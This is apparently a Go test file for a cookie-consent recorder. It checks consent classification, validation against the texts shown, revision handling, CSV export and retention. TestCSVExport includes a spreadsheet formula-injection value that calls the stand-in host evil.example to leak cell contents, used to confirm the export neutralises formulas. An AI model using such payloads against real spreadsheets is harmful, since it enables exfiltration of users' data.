package proof

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/opendata-portals/cookie-consent/app/config"
)

func submission(cfg *config.Config, lang string, cats map[string]bool) Submission {
	return Submission{
		V: 1, ID: "q3V1c0cN6lq3h0sKxYd8Vw", TS: now.Unix(), Rev: cfg.Revision,
		TextsHash: ShownIn(cfg, lang).Hash(), Lang: lang, Categories: cats,
		Origin: "https://data.example.org", Path: "/",
	}
}

var (
	allOn  = map[string]bool{"necessary": true, "statistics": true, "first_party": true, "third_party": true}
	allOff = map[string]bool{"necessary": true, "statistics": false, "first_party": false, "third_party": false}
	some   = map[string]bool{"necessary": true, "statistics": true, "first_party": false, "third_party": false}
)

func TestRecorderClassifiesAndStores(t *testing.T) {
	eachStore(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		cfg := config.Default()
		r, err := NewRecorder(ctx, s, cfg, now)
		require.NoError(t, err)
		tests := []struct {
			cats map[string]bool
			want Kind
		}{{allOn, AcceptAll}, {allOff, RefuseAll}, {some, Custom}}
		for i, tt := range tests {
			sub := submission(cfg, "fr", tt.cats)
			sub.TS += int64(i)
			rec, o, err := r.Record(ctx, sub, now.Add(time.Second))
			require.NoError(t, err)
			assert.Equal(t, Created, o)
			assert.Equal(t, tt.want, rec.Kind)
			assert.Equal(t, now.Add(time.Second).Unix(), rec.ReceivedAt)
		}
		_, o, err := r.Record(ctx, submission(cfg, "fr", allOn), now.Add(time.Minute))
		require.NoError(t, err)
		assert.Equal(t, Duplicate, o)

		history, err := s.ByID(ctx, "q3V1c0cN6lq3h0sKxYd8Vw")
		require.NoError(t, err)
		assert.Len(t, history, 3)

		// The texts behind every hash the loader may send are in the database.
		for lang, h := range TextsHashes(cfg) {
			st, ok, err := s.Texts(ctx, h)
			require.NoError(t, err)
			require.True(t, ok, lang)
			shown, err := ParseShown(st.Canonical, h)
			require.NoError(t, err)
			assert.Equal(t, lang, shown.Lang)
		}
	})
}

func TestRecorderRejectsWhatTheBannerDidNotShow(t *testing.T) {
	eachStore(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		cfg := config.Default()
		r, err := NewRecorder(ctx, s, cfg, now)
		require.NoError(t, err)
		unknown := submission(cfg, "fr", allOn)
		unknown.TextsHash = hashFR
		wrongLang := submission(cfg, "fr", allOn)
		wrongLang.Lang = "en"
		wrongRev := submission(cfg, "fr", allOn)
		wrongRev.Rev = 99
		tests := []struct {
			name string
			sub  Submission
			msg  string
		}{
			{"unknown texts", unknown, "textsHash: no texts with this hash"},
			{"revision the texts were not published under", wrongRev, "rev: 99, but the texts with this hash were published under revision 1"},
			{"language of other texts", wrongLang, `lang: "en", but the texts with this hash are in "fr"`},
			{"necessary refused", submission(cfg, "fr", map[string]bool{"necessary": false, "statistics": false, "first_party": false, "third_party": false}), "categories.necessary: required"},
			{"category missing", submission(cfg, "fr", map[string]bool{"necessary": true, "statistics": false}), "categories: missing first_party, third_party"},
			{"extra category", submission(cfg, "fr", map[string]bool{"necessary": true, "statistics": false, "first_party": false, "third_party": false, "ads": true}), "not shown to the visitor: ads"},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				_, _, err := r.Record(ctx, tt.sub, now)
				var re *RejectError
				require.ErrorAs(t, err, &re)
				assert.Contains(t, re.Msg, tt.msg)
			})
		}
		n, err := s.Count(ctx)
		require.NoError(t, err)
		assert.Zero(t, n)
	})
}

// A configuration change keeps the old texts acceptable (a visitor whose
// page still has the old loader), and a second server on the same database
// learns the first one's texts from it.
func TestRecorderKnowsEarlierAndOtherServersTexts(t *testing.T) {
	eachStore(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		old := config.Default()
		_, err := NewRecorder(ctx, s, old, now)
		require.NoError(t, err)

		changed := config.Default()
		changed.Revision = 2
		changed.Categories[1].Label["fr"] = "Mesure d'audience"
		r2, err := NewRecorder(ctx, s, changed, now)
		require.NoError(t, err)
		_, o, err := r2.Record(ctx, submission(old, "fr", allOff), now)
		require.NoError(t, err, "the previous configuration's texts are still known")
		assert.Equal(t, Created, o)

		third := config.Default()
		third.Revision = 3
		third.Categories[2].Label["fr"] = "Personnalisation"
		_, err = NewRecorder(ctx, s, third, now) // another server, same database
		require.NoError(t, err)
		sub := submission(third, "fr", allOn)
		sub.ID = "another-visitor-000000"
		_, o, err = r2.Record(ctx, sub, now)
		require.NoError(t, err, "found in the database on first use")
		assert.Equal(t, Created, o)

		// The same texts published again under a new revision (asking
		// everyone again without changing a word): both revisions hold,
		// learnt from the database by the server that did not publish it.
		fourth := config.Default()
		fourth.Revision = 4
		fourth.Categories[2].Label["fr"] = "Personnalisation"
		_, err = NewRecorder(ctx, s, fourth, now)
		require.NoError(t, err)
		revs, err := s.TextsRevisions(ctx, ShownIn(third, "fr").Hash())
		require.NoError(t, err)
		assert.Equal(t, []int{3, 4}, revs)
		sub = submission(fourth, "fr", allOn)
		sub.ID = "a-third-visitor-000000"
		_, o, err = r2.Record(ctx, sub, now)
		require.NoError(t, err, "revision 4 learnt from the database")
		assert.Equal(t, Created, o)
		sub.Rev, sub.ID = 2, "a-fourth-visitor-00000"
		_, _, err = r2.Record(ctx, sub, now)
		var re *RejectError
		require.ErrorAs(t, err, &re)
		assert.Contains(t, re.Msg, "published under revision 3 and 4")
	})
}

func TestCSVExport(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewCSVWriter(&buf)
	require.NoError(t, err)
	r := record("-dash-first-id-0000000", 1764504000, time.Unix(1764504002, 0))
	r.Path = `/=HYPERLINK("http://evil.example/?"&A1,"x"),"quoted"`
	r.Categories = map[string]bool{"necessary": true, "statistics": true, "third_party": false, "first_party": false}
	r.Kind = Custom
	require.NoError(t, w.Write(r))
	r2 := r
	r2.Path = "=1+2"
	r2.Origin = "@SUM(A1)"
	require.NoError(t, w.Write(r2))
	require.NoError(t, w.Flush())

	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err, "valid CSV whatever the path holds")
	require.Len(t, rows, 3)
	assert.Equal(t, CSVHeader, rows[0])
	assert.Equal(t, []string{"2025-11-30T12:00:02Z", "-dash-first-id-0000000", "1764504000", "2025-11-30T12:00:00Z", "1", "custom",
		"necessary statistics", "first_party third_party", "fr", hashFR, "https://data.example.org", r.Path}, rows[1])
	assert.Equal(t, "'=1+2", rows[2][11], "a formula is neutralised")
	assert.Equal(t, "'@SUM(A1)", rows[2][10])
}

func TestCell(t *testing.T) {
	for in, want := range map[string]string{"": "", "/a": "/a", "=x": "'=x", "+x": "'+x", "-x": "'-x", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b"} {
		assert.Equal(t, want, cell(in), "%q", in)
	}
}

func TestRetain(t *testing.T) {
	eachStore(t, func(t *testing.T, s *Store) {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		for i, age := range []time.Duration{0, 100 * 24 * time.Hour, 400 * 24 * time.Hour, 800 * 24 * time.Hour} {
			_, err := s.Add(ctx, record("retained-000000000000"+string(rune('a'+i)), now.Unix(), now.Add(-age)))
			require.NoError(t, err)
		}
		reports := make(chan int64, 10)
		go Retain(ctx, s, 12, time.Hour, func() time.Time { return now }, func(n int64, err error) {
			assert.NoError(t, err)
			reports <- n
		})
		select {
		case n := <-reports:
			assert.EqualValues(t, 2, n, "older than 12 months: 400 and 800 days")
		case <-time.After(10 * time.Second):
			t.Fatal("no retention pass")
		}
		n, err := s.Count(ctx)
		require.NoError(t, err)
		assert.EqualValues(t, 2, n)
	})
}

func TestRetainZeroKeepsEverything(t *testing.T) {
	done := make(chan struct{})
	go func() {
		Retain(context.Background(), nil, 0, time.Hour, time.Now, func(int64, error) { t.Error("no pass expected") })
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Retain with 0 months returns at once")
	}
}

func TestRetentionCutoff(t *testing.T) {
	assert.Equal(t, time.Date(2025, 11, 30, 12, 0, 0, 0, time.UTC), RetentionCutoff(now, 12))
	assert.Equal(t, time.Date(2024, 11, 30, 12, 0, 0, 0, time.UTC), RetentionCutoff(now, 24))
}
